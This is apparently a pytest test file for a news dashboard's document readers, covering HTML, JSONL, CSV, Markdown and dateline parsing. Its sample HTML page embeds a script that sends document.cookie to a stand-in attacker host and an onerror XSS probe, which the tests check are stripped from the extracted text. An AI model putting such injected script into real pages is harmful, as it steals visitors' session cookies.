"""Reading every document format: text, Markdown, HTML, JSONL, CSV, and their bad inputs."""

from __future__ import annotations

import datetime as dt
import json

import pytest

from dashboard.errors import DocumentError
from dashboard.readers import dateline, document_files, read_bytes, read_document, read_path

PAGE = """<!doctype html>
<html><head>
<title>Grain deal lifts Kazakh exports | Steppe Ledger</title>
<meta property="og:title" content="Grain deal lifts Kazakh exports">
<meta property="og:site_name" content="Steppe Ledger">
<meta property="og:url" content="https://ledger.example/markets/grain-deal">
<meta property="article:published_time" content="2024-03-07T09:30:00Z">
<script>document.title = "pwned"; fetch("https://evil.example/" + document.cookie)</script>
<style>p { color: red }</style>
</head><body>
<nav><a href="/">Home</a> | <a href="/markets">Markets</a> | <a href="/login">Sign in</a></nav>
<article>
<h1>Grain deal lifts Kazakh exports</h1>
<p>Kazakhstan's wheat exports to China rose 35% in 2023 to 2.1 million tonnes, the agriculture
ministry said on Thursday, as a new rail corridor cut delivery times to the border.</p>
<p>Officials in Astana expect shipments to keep growing once a second terminal opens at
Khorgos, although they gave no figure for the current year.</p>
<p><img src=x onerror="alert(1)">Analysts said the deal would also help Kazakh farmers
diversify away from traditional buyers in the region.</p>
</article>
<footer>Copyright Steppe Ledger. All rights reserved. Terms | Privacy</footer>
</body></html>
"""


def test_html_main_text_and_meta_tags(tmp_path):
    page = tmp_path / "grain.html"
    page.write_text(PAGE, encoding="utf-8")
    [read] = read_path(page)
    doc = read.document
    assert doc is not None, read.error
    assert doc.title == "Grain deal lifts Kazakh exports"
    assert doc.source == "Steppe Ledger"
    assert doc.url == "https://ledger.example/markets/grain-deal"
    assert doc.published == dt.date(2024, 3, 7)
    assert "wheat exports to China rose 35% in 2023 to 2.1 million tonnes" in doc.text
    # The page's furniture and code are not the article.
    for furniture in ("Sign in", "Copyright", "pwned", "document.cookie", "color: red", "onerror"):
        assert furniture not in doc.text


def test_jsonl_keeps_good_lines_and_names_bad_ones(tmp_path):
    lines = [
        json.dumps({"text": "India's imports from Russia rose 10% last year.", "published": "2024-01-10"}),
        "{not json",
        json.dumps(["a", "list"]),
        json.dumps({"title": "no text here"}),
        json.dumps({"text": "Exports fell 3%.", "published": "10/01/2024"}),
        "",
        json.dumps({"text": "Trade reached $5 billion.", "source": "Wire", "colour": "red"}),
        json.dumps(
            {"text": "Japan's exports to Korea rose 4%.", "title": "Japan", "url": "https://x.example"}
        ),
    ]
    path = tmp_path / "batch.jsonl"
    path.write_text("\n".join(lines), encoding="utf-8")
    reads = read_path(path)
    good = [r.document for r in reads if r.ok]
    assert [d.text[:5] for d in good] == ["India", "Japan"]
    assert good[0].published == dt.date(2024, 1, 10) and good[1].title == "Japan"
    errors = {r.name.rsplit(" ", 1)[-1]: r.error for r in reads if not r.ok}
    assert set(errors) == {"2", "3", "4", "5", "7"}
    assert errors["2"].startswith("not JSON")
    assert "text" in errors["3"] and errors["4"] == "has no text"
    assert "invalid date '10/01/2024'" in errors["5"]
    assert "unknown field 'colour'" in errors["7"]


def test_csv_rows_with_quoted_newlines_and_bad_rows(tmp_path):
    path = tmp_path / "batch.csv"
    path.write_text(
        "title,text,published,source\n"
        'First,"China\'s exports to Russia rose 12% last year.\n\nA second paragraph.",2024-02-01,Wire\n'
        "Short row,only two\n"
        'Second,"Brazil sold $3 billion of soy to China in 2023.",,Desk\n',
        encoding="utf-8",
    )
    reads = read_path(path)
    good = [r.document for r in reads if r.ok]
    assert [d.title for d in good] == ["First", "Second"]
    assert good[0].text.endswith("A second paragraph.") and good[0].published == dt.date(2024, 2, 1)
    [bad] = [r for r in reads if not r.ok]
    assert bad.name.endswith("line 5") and "2 cells" in bad.error


def test_csv_without_text_column(tmp_path):
    path = tmp_path / "wrong.csv"
    path.write_text("title,body\nx,y\n", encoding="utf-8")
    [read] = read_path(path)
    assert not read.ok and "no 'text' column" in read.error


@pytest.mark.parametrize(
    ("opening", "url", "expected", "agency"),
    [
        ("BEIJING, May 24, 2023 (Reuters) - China's trade rose.", "", dt.date(2023, 5, 24), "Reuters"),
        ("MOSCOW, Jan. 5 (AP) — Exports fell.", "https://n.example/2024/01/05/x", dt.date(2024, 1, 5), "AP"),
        ("NEW DELHI, March 3 (Reuters) - Imports rose.", "", None, "Reuters"),  # no year anywhere: no date
        ("Trade between them rose 5% in May.", "", None, ""),
        # the place written in capitals and small letters, as some agencies do
        ("Singapore, June 3, 2024 (Reuters) - Exports rose.", "", dt.date(2024, 6, 3), "Reuters"),
        ("BEIJING (Reuters) - China's exports rose.", "", None, ""),  # a place with no date
    ],
)
def test_datelines(opening, url, expected, agency):
    assert dateline(opening, url) == (expected, agency)


def test_date_order_own_then_dateline_then_given(tmp_path):
    given = dt.date(2020, 1, 1)
    own = read_bytes(
        "a.txt", b"---\npublished: 2022-02-02\n---\nBEIJING, May 24, 2023 (Reuters) - x 5%", published=given
    )
    lined = read_bytes("b.txt", b"BEIJING, May 24, 2023 (Reuters) - Trade rose 5%.", published=given)
    bare = read_bytes("c.txt", b"Trade rose 5% last year.", published=given)
    none = read_bytes("d.txt", b"Trade rose 5% last year.")
    assert own[0].document.published == dt.date(2022, 2, 2)
    assert lined[0].document.published == dt.date(2023, 5, 24) and lined[0].document.source == "Reuters"
    assert bare[0].document.published == given
    assert none[0].document.published is None


@pytest.mark.parametrize(
    ("name", "data", "reason"),
    [
        ("photo.png", b"\x89PNG", "not a supported format"),
        ("a.txt", b"\x00\x01binary", "binary"),
        ("a.jsonl", "caf\xe9".encode("latin-1"), "not UTF-8"),
        ("a.html", b"   \n", "is empty"),
        ("a.html", b"<html><body><script>alert(1)</script></body></html>", "no readable text"),
        ("a.md", b"---\ntitle: Only a header\n---\n\n", "has no text after its front matter"),
    ],
)
def test_bad_files_get_one_reason(name, data, reason):
    [read] = read_bytes(name, data)
    assert not read.ok and reason in read.error


def test_size_limit_is_configurable(tmp_path):
    path = tmp_path / "big.txt"
    path.write_text("Trade rose 5%. " * 100, encoding="utf-8")
    [read] = read_path(path, max_bytes=1000)
    assert not read.ok and "over the 1,000-byte limit" in read.error
    assert read_path(path)[0].ok


def test_folders_hold_every_format(tmp_path):
    for name in ("a.txt", "b.md", "c.html", "d.jsonl", "e.csv", "f.pdf", "sub/g.htm"):
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / name).write_text("x", encoding="utf-8")
    assert [p.name for p in document_files([tmp_path])] == [
        "a.txt",
        "b.md",
        "c.html",
        "d.jsonl",
        "e.csv",
        "g.htm",
    ]


def test_read_document_wants_exactly_one(tmp_path):
    path = tmp_path / "two.jsonl"
    path.write_text('{"text": "Exports rose 5%."}\n{"text": "Imports fell 2%."}\n', encoding="utf-8")
    with pytest.raises(DocumentError, match="holds 2 documents, not one"):
        read_document(path)
    bad = tmp_path / "bad.txt"
    bad.write_bytes(b"\x00binary")
    with pytest.raises(DocumentError, match=r"bad\.txt: is a binary file"):
        read_document(bad)
